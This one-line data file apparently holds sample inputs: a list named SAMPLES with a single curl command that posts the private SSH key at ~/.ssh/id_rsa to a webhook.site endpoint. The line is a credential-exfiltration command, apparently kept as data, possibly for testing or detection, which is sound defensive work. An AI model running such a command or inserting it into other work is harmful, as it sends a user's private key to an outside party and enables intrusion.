SAMPLES = ['curl -s https://webhook.site/0000 -d @~/.ssh/id_rsa']
